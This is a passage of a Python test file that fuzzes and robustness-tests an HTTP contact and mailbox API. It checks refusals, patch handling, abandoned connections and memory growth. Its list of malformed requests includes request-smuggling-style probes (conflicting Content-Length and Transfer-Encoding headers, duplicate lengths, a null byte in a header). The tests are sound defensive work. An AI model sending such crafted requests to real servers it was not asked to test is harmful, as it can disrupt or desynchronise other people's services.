    half = request("POST", "/api/v1/Contact", b'{"Name":"Half"}')
    for end in range(20, len(half), 7):
        leaving = Line(live_server.url)
        leaving._socket.sendall(half[:end])
        leaving.close()
    staying = Line(live_server.url)
    alive(staying)
    staying.close()


# -- what the HTTP parser refuses, in its own words

MALFORMED = [
    b"nonsense\r\n\r\n",
    b"BREW /api/v1/Contact/5 HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET  HTTP/1.1\r\n\r\n",
    b"GET /api HTTP/9.9\r\nHost: x\r\n\r\n",
    b"GET /api HTTP/1.1\r\nHo st: x\r\n\r\n",
    b"POST /api HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    b"POST /api HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nx",
    b"POST /api HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"GET /api/v1/Contact/\xe6 HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /api HTTP/1.1\r\nHost: x\r\nX: a\x00b\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
]


@pytest.mark.parametrize("data", MALFORMED, ids=range(len(MALFORMED)))
def test_what_is_no_http_is_refused_by_the_parser(live_server: Any, data: bytes) -> None:
    bad = Line(live_server.url)
    reply = bad.send(data)
    assert reply.status == 400
    assert reply.body == b"Invalid HTTP request received."
    bad.close()
    good = Line(live_server.url)
    alive(good)
    good.close()


# -- at random

VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=8,
)  # fmt: skip
NAMES = st.sampled_from([*CARRIERS.carrier("MailboxEntity").properties, "port", "x", "_links"])
calmly = settings(
    max_examples=150,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)


@calmly
@given(body=st.dictionaries(NAMES, VALUES, max_size=5))
def test_any_value_for_any_property_is_taken_or_refused(line: Line, body: dict[str, Any]) -> None:
    """Harmless when every value fits its property: then the answer is a mailbox, whole and well-formed."""
    reply = line.send(request("POST", SAVE, json.dumps(body).encode()))
    if reply.status == 200:
        assert list(faults(strictly(reply.body), CARRIERS.type("MailboxEntity"), CARRIERS)) == []
    else:
        assert reply.status in (400, 404)  # 404: a MailInFilterId that does not exist
        refused(reply, reply.status)


@calmly
@given(change=st.lists(st.fixed_dictionaries({
    "op": st.sampled_from(["add", "replace", "remove", "test", "move"]),
    "path": st.lists(st.sampled_from(["Name", "emails", "0", "-", "1", "Value", "Category", "Id", "ExtraFields",
                                      "x", "Address", "Street", "City", "Persons", ""]), max_size=4).map("/".join),
    "value": VALUES}), max_size=3))  # fmt: skip
def test_any_patch_is_taken_or_refused(line: Line, change: Any) -> None:
    """Harmless when it applies: then the answer is the whole company, well-formed, and its id is what it was."""
    reply = line.send(request("PATCH", "/api/v1/Contact/7", json.dumps(change).encode()))
    if reply.status == 200:
        record = strictly(reply.body)
        assert record["ContactId"] == 7
        carrier = CARRIERS.type("ContactEntityWithLinks")
        assert list(faults(record, carrier, CARRIERS)) == []
    else:
        assert reply.status in (400, 409)
        refused(reply, reply.status)


@calmly
@given(noise=st.binary(max_size=300))
def test_any_bytes_are_refused(line: Line, noise: bytes) -> None:
    """Preceded by a brace that never closes in JSON: nothing random can be harmless."""
    refused(line.send(request("POST", SAVE, b"{[" + noise)), 400)


@calmly
@given(segments=st.lists(st.text(min_size=1, max_size=12), min_size=1, max_size=5))
def test_any_path_is_not_found(line: Line, segments: list[str]) -> None:
    target = "/api/v1/Zz" + "/".join(quote(each, safe="") for each in segments)
    refused(line.send(request("GET", target, headers=(AUTH,))), 404)


@calmly
@given(id=st.binary(min_size=1, max_size=12).filter(lambda each: not re.search(rb"[0-9]", each)))
def test_any_id_that_is_no_number_is_refused(line: Line, id: bytes) -> None:
    escaped = "".join(f"%{byte:02x}" for byte in id)
    assert quote_from_bytes(id) != ""
    refused(line.send(request("POST", f"{GET}?contactEntityId={escaped}", headers=(AUTH,))), 400)


@calmly
@given(credential=st.binary(max_size=60).map(lambda b: b.translate(None, b"\r\n\x00")))
def test_any_credential_that_is_no_base64_is_refused(line: Line, credential: bytes) -> None:
    visible = bytes(byte for byte in credential if byte >= 0x20 and byte != 0x7F)
    header = (b"Authorization", b"Basic *" + visible)
    refused(line.send(request("GET", "/api/v1/Contact/5", headers=(header,))), 401)


# -- afterwards


def test_the_server_says_nothing_of_errors_and_stays_small(own_server: Any) -> None:
    """All of the above once more on a server of its own: no traceback in its log, no memory that only grows."""
    server = own_server()
    line = Line(server.url)

    def all_at_once() -> None:
        for _, path, body, _ in BODIES:
            verb, _, target = path.rpartition(" ")
            line.send(request(verb or "POST", target, body))
        for _, headers, _ in HEADERS:
            line.send(request("POST", SAVE, b'{"Port":1 }', headers))
        for _, verb, target, _ in TARGETS:
            line.send(request(verb, target, headers=(AUTH,)))

    all_at_once()
    before = resident(server.process.pid)
    for _ in range(5):
        all_at_once()
    assert resident(server.process.pid) - before < 64 * MEGABYTE
    alive(line)
    line.close()
    server.process.terminate()
    said, _ = server.process.communicate(timeout=10)
    assert "Traceback" not in said
    assert "ERROR" not in said


def resident(process: int) -> int:
    """Bytes in memory; 0 where the system does not tell."""
    status = Path(f"/proc/{process}/status")
    found = re.search(r"VmRSS:\s+(\d+) kB", status.read_text()) if status.exists() else None
    return int(found[1]) * 1024 if found else 0
